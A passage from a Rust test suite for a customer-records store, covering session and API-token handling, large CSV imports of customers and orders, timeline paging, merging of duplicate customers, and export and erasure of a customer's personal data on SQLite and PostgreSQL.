    let sess = s.session(&secret).await.unwrap().unwrap();
    assert_eq!((sess.user.id, sess.csrf_token), (u.id, csrf));
    db.clock.set(test_now() + chrono::Duration::hours(9));
    assert!(s.session(&secret).await.unwrap().is_none(), "sessions expire");
    let (info, token) = s.create_token("ci", Role::Manager, None).await.unwrap();
    assert!(token.starts_with("pat_"));
    let actor = s.actor_for_token(&token).await.unwrap().unwrap();
    assert_eq!(actor.role, Role::Manager);
    // Only the digest is stored.
    let (stored,): (String,) = s.db.reader().fetch_one(patron_store::db::query("SELECT token_hash FROM api_tokens")).await.unwrap();
    assert_ne!(stored, token);
    s.revoke_token(info.id).await.unwrap();
    assert!(s.actor_for_token(&token).await.unwrap().is_none());
});

/// An orders file of `n` rows: order ids `{prefix}{i}`, customers C1/C2/C3 in turn, one day each.
fn many_orders(prefix: &str, n: usize, customer_of: impl Fn(usize) -> &'static str) -> String {
    let mut s = String::from("order_id,customer_id,ordered_at,amount,category,product,quantity\n");
    for i in 0..n {
        let day = 1 + i % 28;
        s.push_str(&format!(
            "{prefix}{i:06},{},2026-02-{day:02} 12:00:00,{}.50,火锅,锅底{},{}\n",
            customer_of(i),
            10 + i % 90,
            i % 7,
            1 + i % 3
        ));
    }
    s
}

async fn customer_id(s: &Store, external_id: &str) -> i64 {
    s.list_customers(&CustomerFilter { q: Some(external_id.into()), ..Default::default() }, CustomerSort::Id, None, 5).await.unwrap().items
        [0]
    .id
}

test_both!(a_long_timeline_pages_through_every_entry_once_in_order, |db: TestDb| async move {
    // Each source of the timeline is cut to a page before the merge: the pages must still give
    // every entry once, newest first, ties (28 days, orders at the same minute) by kind and id.
    let s = &db.store;
    import(s, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
    let r = import(s, ImportKind::Orders, "t.csv", many_orders("T", 90, |_| "C1").into(), |_| {}).await;
    assert!(r.committed, "{:?}", r.rejections);
    let c1 = customer_id(s, "C1").await;
    for body in ["靠窗", "不要香菜", "生日在三月"] {
        s.create_note(&cli(), c1, patron_store::notes::NewNote { body: body.into() }).await.unwrap();
    }
    let key = |e: &patron_store::timeline::TimelineEntry| (e.at, e.kind.clone(), e.id);
    let all = s.timeline(c1, None, 500).await.unwrap();
    assert!(all.next_cursor.is_none());
    assert_eq!(all.items.iter().filter(|e| e.kind == "order").count(), 90);
    assert_eq!(all.items.iter().filter(|e| e.kind == "note").count(), 3);
    let all: Vec<_> = all.items.iter().map(key).collect();
    // Strictly descending: in order, and no entry twice.
    assert!(all.windows(2).all(|w| w[0] > w[1]), "{all:?}");
    for size in [1, 2, 7, 40] {
        let (mut paged, mut cursor) = (Vec::new(), None::<String>);
        // Bounded: pages that never end (a cursor that does not move on) fail the comparison.
        for _ in 0..=all.len() {
            let page = s.timeline(c1, cursor.as_deref(), size).await.unwrap();
            assert!(page.items.len() as i64 <= size);
            paged.extend(page.items.iter().map(key));
            match page.next_cursor {
                Some(c) => cursor = Some(c),
                None => break,
            }
        }
        assert_eq!(paged, all, "pages of {size}");
    }
});

test_both!(orders_import_spans_many_chunks, |db: TestDb| async move {
    let s = &db.store;
    import(s, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
    let who = |i: usize| ["C1", "C2", "C3"][i % 3];
    // More rows than one chunk of the reader (8,192) and than one SQLite staging statement.
    let n = 20_011;
    let file = many_orders("M", n, who);
    let r = import(s, ImportKind::Orders, "m.csv", file.clone().into(), |_| {}).await;
    assert!(r.committed, "{:?}", &r.rejections[..r.rejections.len().min(3)]);
    assert_eq!((r.rows_read, r.created, r.updated, r.rejected), (n as u64, n as u64, 0, 0));
    assert_eq!(count(s, "orders").await, n as i64);
    assert_eq!(count(s, "order_lines").await, n as i64);
    assert_eq!(count(s, "products").await, 7);
    // File order is id order; every line points at its own order and customer (joined on both,
    // as Citus joins tables distributed by customer).
    let (bad,): (i64,) =
        s.db.reader()
            .fetch_one(patron_store::db::query(
                "SELECT COUNT(*) FROM order_lines l LEFT JOIN orders o ON o.customer_id = l.customer_id AND o.id = l.order_id \
             WHERE o.id IS NULL OR l.line_no <> 1",
            ))
            .await
            .unwrap();
    assert_eq!(bad, 0);
    let (first, last): (String, String) =
        s.db.reader()
            .fetch_one(patron_store::db::query(
                "SELECT (SELECT external_id FROM orders ORDER BY id LIMIT 1), (SELECT external_id FROM orders ORDER BY id DESC LIMIT 1)",
            ))
            .await
            .unwrap();
    assert_eq!((first.as_str(), last.as_str()), ("M000000", "M020010"));
    // The summaries of every touched customer are current.
    let c1 = customer_id(s, "C1").await;
    let sum = s.customer_summary(c1).await.unwrap().expect("summary of C1");
    assert_eq!(sum.order_count, (n as i64 + 2) / 3);
    assert_eq!(sum.purchase_days, 28);
    // Re-importing the same file changes nothing and counts updates.
    let r = import(s, ImportKind::Orders, "m.csv", file.into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged, r.rejected, r.committed), (0, 0, n as u64, 0, true));
    assert_eq!(count(s, "orders").await, n as i64);
    assert_eq!(count(s, "order_lines").await, n as i64);
    assert_eq!(s.customer_summary(c1).await.unwrap().expect("summary").order_count, sum.order_count);
    // Old and new orders in one file: the old ones are updated in place, the new ones added.
    let mixed = many_orders("M", n + 30, who);
    let mixed: Vec<&str> = mixed.lines().collect();
    let mut text = mixed[0].to_owned() + "\n";
    for l in mixed[n - 19..].iter() {
        text.push_str(l);
        text.push('\n');
    }
    // One old order changes its amount and quantity; the other 19 are as stored.
    let first_old = mixed[n - 19];
    let changed: Vec<&str> = first_old.split(',').collect();
    let changed = format!("{},{},{},999.00,{},{},5", changed[0], changed[1], changed[2], changed[4], changed[5]);
    let text = text.replacen(first_old, &changed, 1);
    let r = import(s, ImportKind::Orders, "mixed.csv", text.into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged, r.rejected), (30, 1, 19, 0), "{:?}", r.rejections);
    assert_eq!(count(s, "orders").await, n as i64 + 30);
    assert_eq!(count(s, "order_lines").await, n as i64 + 30);
    let (total, quantity): (i64, i64) =
        s.db.reader()
            .fetch_one(patron_store::db::query(format!(
                "SELECT o.total_cents, l.quantity FROM orders o JOIN order_lines l ON l.customer_id = o.customer_id AND l.order_id = o.id \
             WHERE o.external_id = 'M{:06}'",
                n - 20
            )))
            .await
            .unwrap();
    assert_eq!((total, quantity), (99_900, 5), "a changed order is updated, with its line");
});

test_both!(orders_import_rejects_across_chunks, |db: TestDb| async move {
    let s = &db.store;
    import(s, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
    let r = import(s, ImportKind::Orders, "a.csv", "order_id,customer_id,ordered_at,amount\nX1,C1,2026-01-02,5\n".into(), |_| {}).await;
    assert_eq!(r.created, 1);
    // A later file whose row 15,002 gives X1 to C2 and whose row 18,002 repeats row 2's id.
    let mut file = many_orders("N", 18_000, |_| "C2");
    file.push_str("X1,C2,2026-01-03,7,,,1\nN000000,C3,2026-01-03,7,,,1\n");
    let lines: Vec<&str> = file.lines().collect();
    let mut text = lines[..15_001].join("\n");
    text.push('\n');
    text.push_str(lines[18_001]);
    text.push('\n');
    text.push_str(&lines[15_001..18_001].join("\n"));
    text.push('\n');
    text.push_str(lines[18_002]);
    text.push('\n');
    let r = import(s, ImportKind::Orders, "n.csv", text.clone().into(), |_| {}).await;
    assert!(!r.committed);
    assert_eq!(r.rejected, 2, "{:?}", r.rejections);
    let moved = r.rejections.iter().find(|x| x.row == 15_002).expect("moved order rejected");
    assert_eq!((moved.column.as_str(), moved.value.as_str()), ("order_id", "X1"));
    assert!(moved.reason.contains("belongs to another customer"), "{moved:?}");
    let dup = r.rejections.iter().find(|x| x.row == 18_003).expect("duplicate rejected");
    assert!(dup.reason.contains("duplicate id in this file (first at row 2)"), "{dup:?}");
    assert_eq!(count(s, "orders").await, 1, "all or nothing");
    // --skip-invalid loads the rest; X1 stays with C1.
    let r = import(s, ImportKind::Orders, "n.csv", text.into(), |o| o.skip_invalid = true).await;
    assert!(r.committed);
    assert_eq!((r.created, r.updated, r.rejected), (18_000, 0, 2));
    assert_eq!(count(s, "orders").await, 18_001);
    let (owner,): (String,) =
        s.db.reader()
            .fetch_one(patron_store::db::query(
                "SELECT c.external_id FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.external_id = 'X1'",
            ))
            .await
            .unwrap();
    assert_eq!(owner, "C1");
    let c2 = customer_id(s, "C2").await;
    assert_eq!(s.customer_summary(c2).await.unwrap().expect("summary").order_count, 18_000);
});

test_both!(orders_find_their_customers_however_the_file_is_spread, |db: TestDb| async move {
    // SQLite resolves a chunk's customers by one walk over their range of ids, bounded at a few
    // rows per id, and probes the ids beyond where the walk stopped. Either way every order
    // lands on its customer (or the customer it was merged into); deleted and unknown ones are
    // refused.
    use std::collections::BTreeMap;
    let s = &db.store;
    let mut customers = String::from("customer_id,name\n");
    for i in 0..300 {
        customers.push_str(&format!("R{i:03},顾客{i}\n"));
    }
    assert!(import(s, ImportKind::Customers, "r.csv", customers.into(), |_| {}).await.committed);
    let ids: BTreeMap<String, i64> =
        s.db.reader()
            .fetch_all::<(String, i64)>(patron_store::db::query("SELECT external_id, id FROM customers"))
            .await
            .unwrap()
            .into_iter()
            .collect();
    s.delete_customer(&cli(), ids["R100"]).await.unwrap();
    s.merge_customers(&cli(), ids["R102"], ids["R101"]).await.unwrap();
    // Dense: every customer from R090 to R139, two orders each (the walk covers the range).
    // Sparse: every 13th customer across all 300, plus the two ends (the walk stops early).
    let dense: Vec<String> = (90..140).flat_map(|i| [format!("R{i:03}"), format!("R{i:03}")]).collect();
    let sparse: Vec<String> = (0..300).step_by(13).chain([299, 100, 101]).map(|i| format!("R{i:03}")).collect();
    let mut expected: BTreeMap<String, i64> = BTreeMap::new();
    for (name, who) in [("dense.csv", dense), ("sparse.csv", sparse)] {
        let mut file = String::from("order_id,customer_id,ordered_at,amount\n");
        // An id inside the range that no customer has.
        for (n, c) in who.iter().map(String::as_str).chain(["R0505"]).enumerate() {
            file.push_str(&format!("{name}-{n},{c},2026-03-01 10:00:00,12.00\n"));
        }
        let r = import(s, ImportKind::Orders, name, file.into(), |o| o.skip_invalid = true).await;
        assert!(r.committed, "{name}");
        let refused: Vec<&str> = r.rejections.iter().map(|x| x.value.as_str()).collect();
        let deleted = who.iter().filter(|c| *c == "R100").count();
        assert_eq!(refused.len(), deleted + 1, "{name}: {refused:?}");
        assert!(refused.iter().all(|v| *v == "R100" || *v == "R0505"), "{name}: {refused:?}");
        assert!(r.rejections.iter().all(|x| x.reason.contains("unknown customer")), "{name}: {:?}", r.rejections);
        for c in who.iter().filter(|c| *c != "R100") {
            // R101's orders go to the customer it was merged into.
            let owner = if c == "R101" { "R102" } else { c.as_str() };
            *expected.entry(owner.to_owned()).or_default() += 1;
        }
    }
    let stored: BTreeMap<String, i64> =
        s.db.reader()
            .fetch_all::<(String, i64)>(patron_store::db::query(
                "SELECT c.external_id, COUNT(*) FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY c.external_id",
            ))
            .await
            .unwrap()
            .into_iter()
            .collect();
    assert_eq!(stored, expected);
});

/// PostgreSQL, as a role that may not set `session_replication_role`: orders load with the
/// per-row foreign-key triggers instead of the load's own checks, with the same result, and a
/// file that breaks a key still writes nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn postgres_orders_import_without_the_trigger_privilege() {
    use patron_store::db::query;
    let db = patron_store::testing::test_db(patron_store::Engine::Postgres).await;
    let role = patron_store::testing::unique_name();
    for sql in [
        format!("CREATE ROLE {role} LOGIN"),
        // As an application role usually is: it may create tables (the migrator checks its own).
        format!("GRANT CREATE ON SCHEMA public TO {role}"),
        format!("GRANT ALL ON ALL TABLES IN SCHEMA public TO {role}"),
        format!("GRANT ALL ON ALL SEQUENCES IN SCHEMA public TO {role}"),
    ] {
        db.store.db.reader().execute(query(sql)).await.unwrap();
    }
    // The same database, reached as the new role (trust authentication on the test server).
    let (scheme, rest) = db.url.split_once("://").unwrap();
    let host = rest.split_once('@').map_or(rest, |(_, h)| h);
    let plain = Store::connect(&format!("{scheme}://{role}@{host}")).await.expect("connect as a plain role");
    let (may,): (bool,) =
        plain.db.reader().fetch_one(query("SELECT has_parameter_privilege('session_replication_role', 'SET')")).await.unwrap();
    assert!(!may, "the test role must lack the privilege");

    import(&plain, ImportKind::Customers, "c.csv", CUSTOMERS_CSV.into(), |_| {}).await;
    let who = |i: usize| ["C1", "C2", "C3"][i % 3];
    let n = 9_000;
    let r = import(&plain, ImportKind::Orders, "p.csv", many_orders("P", n, who).into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.rejected, r.committed), (n as u64, 0, 0, true), "{:?}", r.rejections);
    // Old and new orders together.
    let r = import(&plain, ImportKind::Orders, "p.csv", many_orders("P", n + 10, who).into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged, r.rejected, r.committed), (10, 0, n as u64, 0, true));
    assert_eq!(count(&plain, "orders").await, n as i64 + 10);
    assert_eq!(count(&plain, "order_lines").await, n as i64 + 10);
    let c1 = customer_id(&plain, "C1").await;
    assert_eq!(plain.customer_summary(c1).await.unwrap().expect("summary").order_count, (n as i64 + 10 + 2) / 3);
    let interactions =
        "interaction_id,customer_id,kind,occurred_at,channel\nI1,C1,click,2026-03-01 10:00,app\nI2,C2,call,2026-03-02 11:00,phone\n";
    let r = import(&plain, ImportKind::Interactions, "i.csv", interactions.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected, r.committed), (2, 0, true), "{:?}", r.rejections);
    plain.db.close().await;
    // Dropping the test database first lets the role go (it holds grants in it).
    drop(db);
    let admin = sqlx::PgPool::connect(&patron_store::testing::pg_admin_url()).await.unwrap();
    sqlx::query(&format!("DROP ROLE {role}")).execute(&admin).await.unwrap();
}

test_both!(customers_import_in_bulk_keeps_tags_consents_and_history, |db: TestDb| async move {
    let s = &db.store;
    // More customers than one batch (5,000) and than one multi-row statement on either engine.
    let n = 6_100;
    let file = |city: &str, tag: &str| {
        let mut f = String::from("customer_id,name,city,tags,consent_sms,consent_email\n");
        for i in 0..n {
            let sms = if i % 2 == 0 { "yes" } else { "no" };
            f.push_str(&format!("B{i:05},客户{i},{city},{tag};t{},{sms},\n", i % 4));
        }
        f
    };
    let r = import(s, ImportKind::Customers, "b.csv", file("上海", "会员").into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.rejected, r.committed), (n as u64, 0, 0, true), "{:?}", r.rejections);
    assert_eq!(count(s, "customers").await, n as i64);
    assert_eq!(count(s, "customer_tags").await, 2 * n as i64);
    assert_eq!(count(s, "customer_consents").await, n as i64);
    // Every customer got its own tags and consent (ids matched by external id).
    let last = s.customer(customer_id(s, "B06099").await).await.unwrap();
    assert_eq!((last.name.as_str(), last.tags.clone()), ("客户6099", vec!["t3".to_owned(), "会员".to_owned()]));
    assert_eq!(
        last.consents.iter().map(|c| (c.channel.as_str(), c.granted, c.source.as_str())).collect::<Vec<_>>(),
        [("sms", false, "import")]
    );
    // The same file again changes nothing; a changed one writes history per changed field.
    let r = import(s, ImportKind::Customers, "b.csv", file("上海", "会员").into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 0, n as u64));
    assert_eq!(count(s, "customer_changes").await, 0);
    let r = import(s, ImportKind::Customers, "b.csv", file("杭州", "会员").into(), |_| {}).await;
    assert_eq!((r.created, r.updated), (0, n as u64));
    assert_eq!(count(s, "customer_changes").await, n as i64, "one city change each");
    assert_eq!(count(s, "customer_tags").await, 2 * n as i64);
});
test_both!(reimports_say_unchanged_and_map_takes_header_aliases, |db: TestDb| async move {
    // Issue 14 §2.11: a re-import counted every row it found as "updated", changed or not.
    let s = &db.store;
    let customers = "customer_id,name,city,referrer_id\nU1,甲,上海,\nU2,乙,北京,\nU3,丙,杭州,U1\n";
    let r = import(s, ImportKind::Customers, "c.csv", customers.into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged), (3, 0, 0));
    // U2's city changes; U3's referrer alone changes (set at the end of the file); U1 is the same.
    let again = "customer_id,name,city,referrer_id\nU1,甲,上海,\nU2,乙,南京,\nU3,丙,杭州,U2\n";
    let r = import(s, ImportKind::Customers, "c.csv", again.into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 2, 1));
    let contacts = "contact_id,customer_id,name,role\nK1,U1,联系人,经理\n";
    // (Only organisations have people: make U1 one.)
    import(s, ImportKind::Customers, "o.csv", "customer_id,name,kind\nU1,甲,organisation\n".into(), |_| {}).await;
    let r = import(s, ImportKind::Contacts, "k.csv", contacts.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected), (1, 0), "{:?}", r.rejections);
    let r = import(s, ImportKind::Contacts, "k.csv", contacts.into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 0, 1));
    let r = import(s, ImportKind::Contacts, "k.csv", contacts.replace("经理", "店长").into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 1, 0));
    let orders = "order_id,customer_id,ordered_at,amount,product\nUO1,U2,2026-06-01,10,茶\nUO2,U2,2026-06-02,20,茶\n";
    import(s, ImportKind::Orders, "o.csv", orders.into(), |_| {}).await;
    // Only the line's product differs in UO2: the order changed.
    let r = import(s, ImportKind::Orders, "o.csv", orders.replace("20,茶", "20,咖啡").into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 1, 1));
    let interactions = "interaction_id,customer_id,kind,occurred_at\nUI1,U2,visit,2026-06-01\n";
    import(s, ImportKind::Interactions, "i.csv", interactions.into(), |_| {}).await;
    let r = import(s, ImportKind::Interactions, "i.csv", interactions.into(), |_| {}).await;
    assert_eq!((r.created, r.updated, r.unchanged), (0, 0, 1));
    // The import log counts every row it loaded, unchanged ones included.
    let (loaded,): (i64,) =
        s.db.reader().fetch_one(patron_store::db::query("SELECT rows_loaded FROM imports ORDER BY id DESC LIMIT 1")).await.unwrap();
    assert_eq!(loaded, 1);

    // `--map` targets take the aliases headers take: `external_id` (the API's name), 手机.
    let file = "会员号,姓名,电话\nM1,丁,13800138000\n";
    let r = import(s, ImportKind::Customers, "m.csv", file.into(), |o| {
        o.mappings = vec![("会员号".into(), "external_id".into()), ("电话".into(), "手机".into())]
    })
    .await;
    assert_eq!((r.created, r.rejected), (1, 0), "{:?}", r.rejections);
    let (mobile,): (Option<String>,) =
        s.db.reader().fetch_one(patron_store::db::query("SELECT mobile FROM customers WHERE external_id = 'M1'")).await.unwrap();
    assert_eq!(mobile.as_deref(), Some("13800138000"));
    let mut opts = ImportOptions::new(ImportKind::Customers, "m.csv");
    opts.mappings = vec![("会员号".into(), "shoe_size".into())];
    let err = s.import(&cli(), Box::new(Cursor::new(file.as_bytes().to_vec())), &opts, &|_| {}).await.unwrap_err();
    assert!(err.to_string().contains("--map target \"shoe_size\" is not a field here"), "{err}");
});

test_both!(customers_import_stores_every_field_as_given, |db: TestDb| async move {
    // Every column of a new customer, with text that needs escaping on the bulk paths (COPY on
    // PostgreSQL: tab, backslash, newline; JSON quotes in attributes), read back through the API.
    let s = &db.store;
    let owner = s.create_user("li.mgr@example.com", "李经理", Role::Agent, None).await.unwrap();
    let file = "customer_id,kind,name,mobile,email,wechat_id,gender,birthday,city,tags,owner,consent_sms,consent_email,consent_wechat,created_at,attr.note,attr.等级\n\
F1,organisation,\"A\tB \\ \"\"C\"\"\nD\",13800138000,f1@example.com,wx_f1,女,1988-02-29,上海,\"a;b\\c\",li.mgr@example.com,yes,no,yes,2024-03-05 09:10:11,\"say \"\"hi\"\"\t\\n\",金\n\
F2,,李四,,,,,,,,,,,,,,\n";
    let r = import(s, ImportKind::Customers, "f.csv", file.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected), (2, 0), "{:?}", r.rejections);
    let c = s.customer(customer_id(s, "F1").await).await.unwrap();
    assert_eq!(c.kind, "organisation");
    assert_eq!(c.name, "A\tB \\ \"C\"\nD");
    assert_eq!(
        (c.mobile.as_deref(), c.email.as_deref(), c.wechat_id.as_deref()),
        (Some("13800138000"), Some("f1@example.com"), Some("wx_f1"))
    );
    assert_eq!((c.gender.as_deref(), c.birthday.map(|d| d.to_string())), (Some("female"), Some("1988-02-29".to_owned())));
    assert_eq!(c.city.as_deref(), Some("上海"));
    assert_eq!(c.tags, vec!["a".to_owned(), "b\\c".to_owned()]);
    assert_eq!(c.owner.as_ref().map(|o| o.id), Some(owner.id));
    assert_eq!(c.attributes, serde_json::json!({"note": "say \"hi\"\t\\n", "等级": "金"}));
    assert_eq!(c.created_at.to_rfc3339(), "2024-03-05T01:10:11+00:00", "Asia/Shanghai time of day, stored in UTC");
    let consents: Vec<(&str, bool, &str)> = c.consents.iter().map(|x| (x.channel.as_str(), x.granted, x.source.as_str())).collect();
    assert_eq!(consents, [("email", false, "import"), ("sms", true, "import"), ("wechat", true, "import")]);
    let bare = s.customer(customer_id(s, "F2").await).await.unwrap();
    assert_eq!(
        (bare.kind.as_str(), bare.mobile, bare.gender, bare.birthday, bare.tags.len(), bare.consents.len()),
        ("person", None, None, None, 0, 0)
    );
    assert_eq!(bare.attributes, serde_json::json!({}));
    // New customers after these get fresh ids: the reserved ones moved the sequence on.
    let next = s.create_customer(&cli(), NewCustomer { name: "王五".into(), ..Default::default() }).await.unwrap();
    assert!(next.id > c.id.max(bare.id));
});
test_both!(duplicates_are_found_and_merged_keeping_every_record, |db: TestDb| async move {
    let s = &db.store;
    let customers = "customer_id,name,mobile,email,city,tags,consent_sms,consent_email,birthday,referrer_id,attr.level\n\
D1,王伟,13800138000,,上海,火锅,yes,,,,\n\
D2,王 伟,13900139000,wang@example.com,上海,会员;火锅,no,yes,1990-01-01,,gold\n\
D3,李娜,13800138000,,北京,,,,,,\n\
D4,张三,,,杭州,,,,,D2,\n\
D5,王伟,13700137000,,北京,,,,,,\n";
    let r = import(s, ImportKind::Customers, "d.csv", customers.into(), |_| {}).await;
    assert_eq!((r.created, r.rejected), (5, 0), "{:?}", r.rejections);
    let orders = "order_id,customer_id,ordered_at,amount,category,product\n\
DO1,D1,2026-03-01 12:00:00,100.00,火锅,鸳鸯锅\nDO2,D2,2026-04-01 12:00:00,50.00,茶饮,奶茶\nDO3,D2,2026-05-01 12:00:00,20.00,茶饮,奶茶\n";
    assert!(import(s, ImportKind::Orders, "o.csv", orders.into(), |_| {}).await.committed);
    let interactions = "interaction_id,customer_id,kind,occurred_at\nDI1,D2,visit,2026-05-02 10:00:00\n";
    let r = import(s, ImportKind::Interactions, "i.csv", interactions.into(), |_| {}).await;
    assert!(r.committed, "{:?}", r.rejections);
    let (a, b, c, d) = (customer_id(s, "D1").await, customer_id(s, "D2").await, customer_id(s, "D3").await, customer_id(s, "D4").await);
    s.create_note(&cli(), b, patron_store::notes::NewNote { body: "喜欢靠窗".into() }).await.unwrap();
    // A fulfilment event on one of the duplicate's orders (on PostgreSQL it refers to the order
    // by customer and order id, so it has to move with it).
    let (order_of_b,): (i64,) =
        s.db.reader().fetch_one(patron_store::db::query("SELECT id FROM orders WHERE external_id = 'DO2'")).await.unwrap();
    let mut tx = s.db.begin().await.unwrap();
    tx.execute(
        patron_store::db::query("INSERT INTO order_events (customer_id, order_id, status, occurred_at) VALUES ($1, $2, 'shipped', $3)")
            .bind(b)
            .bind(order_of_b)
            .bind(test_now()),
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();

    // Candidates: same name in the same city (spaces ignored), same mobile; not the namesake
    // in another city.
    let found = s.duplicate_candidates(a).await.unwrap();
    let got: Vec<(i64, Vec<String>)> = found.iter().map(|c| (c.id, c.reasons.clone())).collect();
    assert_eq!(got, vec![(b, vec!["name_city".to_owned()]), (c, vec!["mobile".to_owned()])]);

    let report = s.merge_customers(&cli(), a, b).await.unwrap();
    assert_eq!((report.orders, report.interactions, report.notes, report.referrals), (2, 1, 1, 1), "{report:?}");
    let kept = report.customer.clone().unwrap();
    // Empty fields filled from the duplicate; its own values kept; tags united; consents per
    // channel from whoever said so last (here the same import: the kept customer's stay).
    assert_eq!((kept.mobile.as_deref(), kept.email.as_deref()), (Some("13800138000"), Some("wang@example.com")));
    assert_eq!(kept.birthday.map(|d| d.to_string()).as_deref(), Some("1990-01-01"));
    assert_eq!(kept.tags, vec!["会员".to_owned(), "火锅".to_owned()]);
    assert_eq!(kept.attributes["level"], "gold");
    let consents: Vec<(&str, bool)> = kept.consents.iter().map(|x| (x.channel.as_str(), x.granted)).collect();
    assert_eq!(consents, [("email", true), ("sms", true)]);
    // Every record now belongs to the kept customer; the duplicate is hidden, not deleted.
    let stats = s.order_stats(a).await.unwrap();
    assert_eq!((stats.order_count, stats.spend_cents), (3, 17000));
    assert_eq!(s.customer_summary(a).await.unwrap().map(|x| x.order_count), Some(3));
    for table in ["orders", "order_lines", "order_events", "interactions", "notes", "customer_tags", "customer_consents"] {
        let (n,): (i64,) =
            s.db.reader()
                .fetch_one(patron_store::db::query(format!("SELECT COUNT(*) FROM {table} WHERE customer_id = $1")).bind(b))
                .await
                .unwrap();
        assert_eq!(n, 0, "{table} left with the duplicate");
    }
    assert!(matches!(s.customer(b).await, Err(StoreError::NotFound(_))));
    assert_eq!(count(s, "customers").await, 5);
    assert_eq!(s.customer(d).await.unwrap().referrer.map(|r| r.id), Some(a), "the duplicate's referral follows");
    let timeline = s.timeline(a, None, 50).await.unwrap();
    assert_eq!(timeline.items.iter().filter(|e| e.kind == "order").count(), 3);
    let fields: Vec<String> = s.customer_changes(a, 50).await.unwrap().into_iter().map(|c| c.field).collect();
    for f in ["merged", "email", "birthday", "tags", "attr.level"] {
        assert!(fields.iter().any(|x| x == f), "{f} not in the history: {fields:?}");
    }
    // After the merge only the other candidate is left.
    assert_eq!(s.duplicate_candidates(a).await.unwrap().iter().map(|c| c.id).collect::<Vec<_>>(), vec![c]);
    // Refusals.
    assert!(matches!(s.merge_customers(&cli(), a, a).await, Err(StoreError::Invalid { .. })));
    assert!(matches!(s.merge_customers(&cli(), a, b).await, Err(StoreError::NotFound(_))));
    assert!(matches!(s.merge_customers(&cli(), 999_999, c).await, Err(StoreError::NotFound(_))));

    // The source system still sends the merged customer's id: orders and interactions land on
    // the customer kept; a customers file naming it is refused with the reason.
    let later = "order_id,customer_id,ordered_at,amount\nDO4,D2,2026-06-01 12:00:00,30.00\n";
    let r = import(s, ImportKind::Orders, "o2.csv", later.into(), |_| {}).await;
    assert!(r.committed, "{:?}", r.rejections);
    assert_eq!(s.order_stats(a).await.unwrap().order_count, 4);
    let r = import(
        s,
        ImportKind::Interactions,
        "i2.csv",
        "interaction_id,customer_id,kind,occurred_at\nDI2,D2,call,2026-06-02 10:00:00\n".into(),
        |_| {},
    )
    .await;
    assert!(r.committed, "{:?}", r.rejections);
    assert_eq!(s.customer_interactions(a, None, 10).await.unwrap().items.len(), 2);
    let r = import(s, ImportKind::Customers, "d2.csv", "customer_id,name\nD2,王伟\n".into(), |_| {}).await;
    assert_eq!(r.rejections[0].reason, format!("this customer was merged into customer #{a}"));
    // Merged again: the first duplicate's id follows to the latest customer kept.
    s.merge_customers(&cli(), c, a).await.unwrap();
    let r =
        import(s, ImportKind::Orders, "o3.csv", "order_id,customer_id,ordered_at,amount\nDO5,D2,2026-06-03 12:00:00,1.00\n".into(), |_| {})
            .await;
    assert!(r.committed, "{:?}", r.rejections);
    assert_eq!(s.order_stats(c).await.unwrap().order_count, 5);
});
test_both!(personal_data_is_exported_and_erased_keeping_the_books, |db: TestDb| async move {
    let s = &db.store;
    let file = "customer_id,kind,name,mobile,email,wechat_id,city,birthday,tags,consent_sms,attr.地址\n\
E1,organisation,张记餐饮,13812345678,boss@zhangji.cn,wx_zhangji,上海,1980-08-08,辣味;大客户,yes,南京西路1号\n";
    assert!(import(s, ImportKind::Customers, "e.csv", file.into(), |_| {}).await.committed);
    let orders = "order_id,customer_id,ordered_at,amount\nEO1,E1,2026-03-01 12:00:00,100.00\nEO2,E1,2026-04-01 12:00:00,50.00\n";
    assert!(import(s, ImportKind::Orders, "o.csv", orders.into(), |_| {}).await.committed);
    let interactions = "interaction_id,customer_id,kind,occurred_at,payload\nEI1,E1,call,2026-04-02 10:00:00,回电 13812345678\n";
    assert!(import(s, ImportKind::Interactions, "i.csv", interactions.into(), |_| {}).await.committed);
    let id = customer_id(s, "E1").await;
    s.create_note(&cli(), id, patron_store::notes::NewNote { body: "老板住南京西路".into() }).await.unwrap();
    s.create_contact(
        &cli(),
        id,
        patron_store::contacts::NewContact { name: "张老板".into(), mobile: Some("13900001111".into()), ..Default::default() },
    )
    .await
    .unwrap();
    s.update_customer(&cli(), id, CustomerPatch { city: Some(Some("苏州".into())), ..Default::default() }).await.unwrap();

    // The copy holds everything.
    let copy = s.personal_data(&cli(), id).await.unwrap();
    assert_eq!(copy.customer.mobile.as_deref(), Some("13812345678"));
    assert_eq!((copy.orders.len(), copy.interactions.len(), copy.notes.len(), copy.contacts.len()), (2, 1, 1, 1));
    assert!(copy.changes.iter().any(|c| c.field == "city" && c.old_value.as_deref() == Some("上海")));
    let json = serde_json::to_string(&copy).unwrap();
    assert!(json.contains("南京西路1号") && json.contains("回电 13812345678"));

    s.erase_customer(&cli(), id).await.unwrap();
    assert!(matches!(s.customer(id).await, Err(StoreError::NotFound(_))));
    assert!(matches!(s.erase_customer(&cli(), id).await, Err(StoreError::NotFound(_))));
    // Nothing that names or reaches the person is left …
    let q = |sql: &str| patron_store::db::query(sql.to_owned()).bind(id);
    let mut r = s.db.reader();
    let (name, mobile, email, wechat, city): (String, Option<String>, Option<String>, Option<String>, Option<String>) =
        r.fetch_one(q("SELECT name, mobile, email, wechat_id, city FROM customers WHERE id = $1")).await.unwrap();
    assert_eq!((name, mobile, email, wechat, city), (format!("erased #{id}"), None, None, None, None));
